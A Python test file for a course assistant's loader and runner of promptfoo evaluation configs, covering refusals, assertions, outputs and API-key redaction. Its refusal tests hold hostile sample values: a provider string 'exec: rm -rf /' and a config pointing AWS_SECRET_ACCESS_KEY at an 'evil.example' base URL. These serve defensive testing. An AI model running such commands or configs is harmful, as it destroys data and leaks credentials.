"""promptfoo configs run by courselab: loading, refusals, assertion semantics, the run, the output JSON."""

from __future__ import annotations

import json
import shutil
import threading
import time
from pathlib import Path

import pytest
from conftest import DATA, free_port

from assistant.datasets import Row
from assistant.errors import InputError
from assistant.evaluation.metrics import Sample, assertion
from assistant.evaluation.promptfoo import is_promptfoo_config, load_promptfoo

CONFIG = DATA / "promptfoo" / "promptfooconfig.yaml"


@pytest.fixture
def config_dir(tmp_path) -> Path:
    target = tmp_path / "pf"
    shutil.copytree(DATA / "promptfoo", target)
    return target


def test_a_config_loads_every_supported_form():
    suite = load_promptfoo(CONFIG)
    assert [p.label for p in suite.prompts][0] == "Question: {{question}}"
    assert len(suite.prompts) == 4  # inline, two from the '---' file, one chat file
    assert suite.prompts[3].messages[0] == ("system", "You answer from the course.")
    assert [p.model for p in suite.providers] == ["fake", "courselab/default"]
    assert suite.providers[1].label == "assistant"
    # inline + 2 CSV rows + a JSONL test whose list var expands into 2
    assert [c.description for c in suite.tests] == ["inline", "from csv", "second csv row",
                                                    "from jsonl", "from jsonl"]
    csv_row = suite.tests[2]
    assert csv_row.metadata == {"topic": "mlm"}
    assert [(a.type, a.value) for a in csv_row.asserts] == [
        ("not-contains", "<script>"), ("icontains-any", ["masked", "mask"])]
    assert {c.vars["question"] for c in suite.tests[3:]} == {"What is GPT?", "What is T5?"}
    assert all(c.vars["style"] == "short" for c in suite.tests)  # defaultTest vars
    assert suite.max_concurrency == 2
    rendered = suite.prompts[1].render(suite.tests[0].vars)
    assert rendered == [("user", "Answer short: What is self-attention?")]


def test_detection_tells_a_promptfoo_config_from_a_suite(tmp_path):
    assert is_promptfoo_config(CONFIG)
    assert not is_promptfoo_config(Path("evals/suites/course_templates.yaml"))
    bad = tmp_path / "x.yaml"
    bad.write_text("{{ not yaml")
    assert not is_promptfoo_config(bad)


REFUSED = [
    ({"prompts": ["{{ question | upper }}"]}, "prompts[0]", "Nunjucks"),
    ({"prompts": ["{% if x %}a{% endif %}"]}, "prompts[0]", "Nunjucks"),
    ({"prompts": ["{{ question.text }}"]}, "prompts[0]", "Nunjucks"),
    ({"prompts": ["file://prompt.js"]}, "prompts[0]", "script"),
    ({"prompts": ["file://prompts.py:make"]}, "prompts[0]", "function"),
    ({"prompts": ["file://*.txt"]}, "prompts[0]", "globs"),
    ({"providers": ["file://provider.py"]}, "providers[0]", "runs code"),
    ({"providers": ["exec: rm -rf /"]}, "providers[0]", "runs code"),
    ({"providers": ["no-such-model"]}, "unknown model", "no-such-model"),
    ({"providers": [{"id": "fake", "config": {"transformResponse": "x"}}]}, "providers[0]",
     "transformResponse"),
    ({"tests": [{"assert": [{"type": "javascript", "value": "1"}]}]}, "assert[0]", "runs code"),
    ({"tests": [{"assert": [{"type": "is-json"}]}]}, "assert[0]", "'is-json' is not supported"),
    ({"tests": [{"assert": [{"type": "contains", "value": "x", "transform": "y"}]}]}, "assert[0]",
     "transform"),
    ({"tests": [{"options": {"transform": "output.trim()"}}]}, "tests[0]", "transform"),
    ({"tests": [{"assert": [{"type": "regex", "value": "(?i)bert"}]}]}, "assert[0]", "JavaScript"),
    ({"tests": [{"assert": [{"type": "latency"}]}]}, "assert[0]", "threshold"),
    ({"tests": [{"vars": {"q": "file://q.py"}}]}, "vars.q", "code"),
    ({"tests": "file://tests.xml"}, "tests", ".csv"),
    ({"scenarios": []}, "scenarios", "unsupported"),
    ({"evaluateOptions": {"repeat": 100}}, "repeat", "between"),
    ({"providers": [{"id": "fake", "config": {"passthrough": {"k": 1}}}]}, "providers[0]",
     "openai:chat providers only"),
    ({"providers": [{"id": "openai:chat:x", "config": {"apiKeyEnvar": "AWS_SECRET_ACCESS_KEY",
                                                       "apiBaseUrl": "http://evil.example/v1"}}]},
     "providers[0]", "_API_KEY"),
]


@pytest.mark.parametrize(("change", "named", "why"), REFUSED)
def test_what_would_run_code_or_is_unsupported_is_refused_by_name(config_dir, change, named, why):
    import yaml

    data = {"prompts": ["{{question}}"], "providers": ["fake"], "tests": [{"vars": {"question": "q"}}]}
    data.update(change)
    path = config_dir / "promptfooconfig.yaml"
    path.write_text(yaml.safe_dump(data))
    with pytest.raises(Exception) as info:
        load_promptfoo(path)
    message = str(info.value)
    assert named in message and why in message
    assert isinstance(info.value, (InputError,)) or type(info.value).__name__ == "UnknownModelError"


def _sample(answer: str, context: str = "", latency: float = 0.5) -> Sample:
    from assistant.retrieval.embeddings import HashEmbedder

    return Sample(Row(user_input="q"), answer, context=context, latency_s=latency,
                  embed=HashEmbedder().embed_documents)


ASSERTIONS = [
    ("equals", "Paris", "Paris", True),
    ("equals", "paris", "Paris", False),
    ("not-equals", "", "Paris", True),
    ("contains", "Par", "Paris", True),
    ("contains", "par", "Paris", False),
    ("icontains", "par", "Paris", True),
    ("not-icontains", "PAR", "Paris", False),
    ("contains-any", ["Rome", "Par"], "Paris", True),
    ("contains-any", "Rome, Berlin", "Paris", False),
    ("icontains-any", "rome, paris", "Paris", True),
    ("contains-all", ["Pa", "is"], "Paris", True),
    ("contains-all", "Pa, xx", "Paris", False),
    ("icontains-all", ["pa", "IS"], "Paris", True),
    ("not-contains-all", ["pa", "IS"], "Paris", True),
    ("starts-with", "Par", "Paris", True),
    ("not-starts-with", "Par", "Paris", False),
    ("regex", "^P[a-z]+$", "Paris", True),
    ("regex", "\\d", "Paris", False),
    ("not-regex", "\\d", "Paris", True),
    ("similar", "Paris", "Paris", True),
    ("not-similar", "Paris", "Paris", False),
]


@pytest.mark.parametrize(("kind", "value", "output", "passed"), ASSERTIONS)
def test_assertions_mean_what_they_mean_in_promptfoo(kind, value, output, passed):
    result = assertion(kind, _sample(output), value)
    assert result["pass"] is passed
    assert result["score"] == (1.0 if passed else 0.0) or kind.endswith("similar")


def test_thresholds_latency_and_context_assertions():
    assert assertion("latency", _sample("x", latency=0.5), None, 1000)["pass"] is True
    assert assertion("latency", _sample("x", latency=1.5), None, 1000)["pass"] is False
    grounded = _sample("BERT masks fifteen percent", context="BERT masks fifteen percent of tokens")
    assert assertion("context-faithfulness", grounded, None, 0.9)["pass"] is True
    made_up = _sample("GPT invents answers", context="BERT masks fifteen percent of tokens")
    assert assertion("context-faithfulness", made_up, None, 0.5)["pass"] is False
    recall = assertion("context-recall", grounded, "BERT masks tokens", 0.9)
    assert recall["pass"] is True and recall["score"] == 1.0
    assert assertion("similar", _sample("Paris"), "Berlin", 0.99)["pass"] is False


def test_a_catastrophic_regex_is_an_error_within_a_bound():
    from assistant.evaluation.metrics import MetricError

    started = time.perf_counter()
    with pytest.raises(MetricError, match="took over"):  # a lookahead: not RE2, time-limited
        assertion("regex", _sample("a" * 3000 + "!"), "^(?=(a|aa)+$)")
    assert assertion("regex", _sample("a" * 3000 + "!"), "^(a|aa)+$")["pass"] is False  # RE2
    assert time.perf_counter() - started < 30  # 1.6 s when the machine is quiet; unbounded before


def _run(config: Path, settings, tmp_path, **kw):
    from assistant.evaluation.promptfoo_run import run_promptfoo

    return run_promptfoo(load_promptfoo(config), settings, tmp_path / "run", **kw)


def test_a_run_scores_every_prompt_provider_and_test(settings, tmp_path):
    rows = _run(CONFIG, settings, tmp_path)
    assert len(rows) == 4 * 2 * 5
    assert (tmp_path / "run" / "results.jsonl").read_text().count("\n") == len(rows)
    first = rows[0]
    assert first["prompt"] == "Question: What is self-attention?"
    assert [a["assertion"]["type"] for a in first["assertions"]] == [
        "not-contains", "icontains", "not-equals"]
    assistant_rows = [r for r in rows if r["provider"] == "courselab/default"]
    assert all("courselab" in r and "sources" in r["courselab"] for r in assistant_rows)
    assert not any(r["error"] for r in rows)
    for r in rows:  # pass follows promptfoo's rule: every assertion passes
        assert r["pass"] == all(a["pass"] for a in r["assertions"])


def test_weights_named_metrics_and_test_thresholds(config_dir, settings, tmp_path):
    import yaml

    path = config_dir / "promptfooconfig.yaml"
    path.write_text(yaml.safe_dump({
        "prompts": ["{{question}}"], "providers": ["fake"],
        "tests": [{"vars": {"question": "hello"}, "assert": [
            {"type": "contains", "value": "nothing", "weight": 3, "metric": "a"},
            {"type": "icontains", "value": "know", "weight": 1, "metric": "a"}]},
            {"vars": {"question": "hello"}, "threshold": 0.2, "assert": [
                {"type": "contains", "value": "nothing", "weight": 3},
                {"type": "icontains", "value": "know", "weight": 1}]}]}))
    rows = _run(path, settings, tmp_path)  # the fake answers "I don't know."
    assert rows[0]["score"] == 0.25 and rows[0]["pass"] is False
    assert rows[0]["named_scores"] == {"a": 0.25}
    assert rows[1]["pass"] is True  # 0.25 >= the test's threshold 0.2


def _rubric_config(config_dir):
    """A promptfoo config with one llm-rubric test graded by the fake model."""
    import yaml

    path = config_dir / "promptfooconfig.yaml"
    path.write_text(yaml.safe_dump({
        "prompts": ["{{question}}"], "providers": ["fake"],
        "defaultTest": {"options": {"provider": "fake"}},
        "tests": [{"vars": {"question": "hello"}, "assert": [
            {"type": "llm-rubric", "value": "is polite"}]}]}))
    return path


def test_llm_rubric_uses_the_grader_as_the_judge_metric(config_dir, settings, tmp_path):
    path = _rubric_config(config_dir)
    rows = _run(path, settings, tmp_path)
    # the fake grader replies without a 1-5 grade: an error, never a silent pass or fail
    assert rows[0]["error"] and "grade" in rows[0]["error"]


def test_cli_runs_a_config_and_writes_promptfoo_json(fake_env, tmp_path):
    from click.testing import CliRunner

    from assistant.cli import cli

    out, output = tmp_path / "run", tmp_path / "results.json"
    result = CliRunner().invoke(cli, ["eval", "run", str(CONFIG), "--out", str(out),
                                      "--output", str(output), "--limit", "2"])
    assert result.exit_code in (0, 1), result.output
    summary = json.loads((out / "summary.json").read_text())
    assert summary["kind"] == "promptfoo" and summary["rows"] == 4 * 2 * 2
    assert result.exit_code == (0 if summary["passed"] else 1)
    data = json.loads(output.read_text())
    results = data["results"]
    assert results["version"] == 3 and len(results["results"]) == summary["rows"]
    assert results["stats"]["successes"] == summary["successes"]
    assert len(results["prompts"]) == 4 * 2
    one = results["results"][0]
    assert one["gradingResult"]["componentResults"][0]["assertion"]["type"] == "not-contains"
    assert {"promptIdx", "testIdx", "success", "score", "response", "vars"} <= set(one)


def test_cli_refuses_suite_options_with_a_promptfoo_config(fake_env, tmp_path):
    from click.testing import CliRunner

    from assistant.cli import cli

    result = CliRunner().invoke(cli, ["eval", "run", str(CONFIG), "--models", "fake"])
    assert result.exit_code == 2 and "promptfoo config" in result.output
    result = CliRunner().invoke(cli, ["eval", "run", "--dataset", "x.jsonl", "--output", "o.json"])
    assert result.exit_code == 2


def test_api_keys_never_reach_the_output_file(config_dir, settings, tmp_path):
    import yaml

    from assistant.evaluation.promptfoo_run import write_output

    path = config_dir / "promptfooconfig.yaml"
    path.write_text(yaml.safe_dump({
        "prompts": ["{{question}}"], "providers": ["fake"],
        "tests": [{"vars": {"question": "hello"}}]}))
    suite = load_promptfoo(path)
    suite.raw["providers"] = [{"id": "openai:chat:x", "config": {"apiKey": "sk-canary"}}]
    from assistant.evaluation.promptfoo_run import run_promptfoo

    rows = run_promptfoo(suite, settings, tmp_path / "run")
    write_output(suite, rows, tmp_path / "out.json")
    assert "sk-canary" not in (tmp_path / "out.json").read_text()


def test_openai_providers_reach_serve_api_with_the_assistant_card(settings, config_dir, tmp_path):
    """Both directions on fakes: courselab runs a config whose providers are serve-api."""
    import uvicorn
    import yaml

    from assistant.api.backends import ModelPool
    from assistant.api.openai_server import create_app

    port = free_port()
    server = uvicorn.Server(uvicorn.Config(create_app(ModelPool(["fake"], settings), "k3y"),
                                           host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.05)
    try:
        url = f"http://127.0.0.1:{port}/v1"
        path = config_dir / "promptfooconfig.yaml"
        path.write_text(yaml.safe_dump({
            "prompts": ["{{question}}"],
            "providers": [
                {"id": "openai:chat:fake", "config": {"apiBaseUrl": url, "apiKey": "k3y"}},
                {"id": "openai:chat:courselab/default", "config": {"apiBaseUrl": url, "apiKey": "k3y",
                                                                  "passthrough": {"k": 1}}},
                {"id": "openai:chat:fake", "label": "no key", "config": {"apiBaseUrl": url}}],
            "tests": [{"vars": {"question": "What is self-attention?", "context": "unused"},
                       "assert": [{"type": "context-recall", "value": "self-attention"}]}]}))
        rows = _run(path, settings, tmp_path)
        assert rows[0]["error"] is None and rows[1]["error"] is None
        assert len(rows[1]["courselab"]["sources"]) == 1  # passthrough k=1 reached the server
        assert "401" in rows[2]["error"]  # the key is required and was not sent
    finally:
        server.should_exit = True
        thread.join(timeout=10)


def test_the_evals_tab_can_show_a_promptfoo_run(settings, tmp_path):
    from assistant.evaluation.promptfoo_run import summarize_promptfoo
    from assistant.ui.evals import drill_down, summary_rows

    suite = load_promptfoo(CONFIG)
    rows = _run(CONFIG, settings, tmp_path)
    summary = summarize_promptfoo(suite, rows)
    headers, table = summary_rows(summary)
    assert headers[0] == "metric" and len(headers) == 1 + 4 * 2  # one column per cell
    assert [r[0] for r in table][:3] == ["items", "errors", "pass"]
    assert "Question: What is self-attention?" in drill_down(rows, "test-1")


def test_an_assertion_without_a_score_is_left_out_of_the_verdict():
    from assistant.evaluation.promptfoo import Case
    from assistant.evaluation.promptfoo_run import _verdict

    case = Case(0, "", {}, [])
    results = [{"score": 1.0, "pass": True, "reason": "", "assertion": {"type": "contains"}},
               {"score": None, "pass": None, "reason": "", "assertion": {"type": "x"}}]
    verdict = _verdict(case, results)
    assert verdict["score"] == 1.0 and verdict["pass"] is True


def test_a_provider_or_grader_that_breaks_is_an_error_for_its_row(config_dir, settings, tmp_path,
                                                                   monkeypatch):
    from assistant.evaluation import promptfoo_run

    path = _rubric_config(config_dir)

    def broken(ident, graders, settings, suite):
        raise RuntimeError("grader broke")

    monkeypatch.setattr(promptfoo_run, "_grader", broken)
    rows = _run(path, settings, tmp_path)
    assert "grader broke" in rows[0]["error"]

    real = promptfoo_run.caller

    def failing(provider, settings):
        def call(messages):
            raise RuntimeError("provider broke")
        return call

    monkeypatch.setattr(promptfoo_run, "caller", failing)
    rows = _run(path, settings, tmp_path)
    assert "provider broke" in rows[0]["error"] and rows[0]["pass"] is False
    monkeypatch.setattr(promptfoo_run, "caller", real)


def test_a_local_provider_loads_in_the_settings_precision(settings, monkeypatch):
    import assistant.models as models
    from assistant.evaluation.promptfoo import parse_provider
    from assistant.evaluation.promptfoo_run import LocalModel

    seen = []
    monkeypatch.setattr(models, "get_model", lambda *a, **kw: seen.append(kw))
    LocalModel(parse_provider("fake", 0, "x"), settings.model_copy(update={"precision": "bf16"}))
    assert seen[0]["precision"] == "bf16"
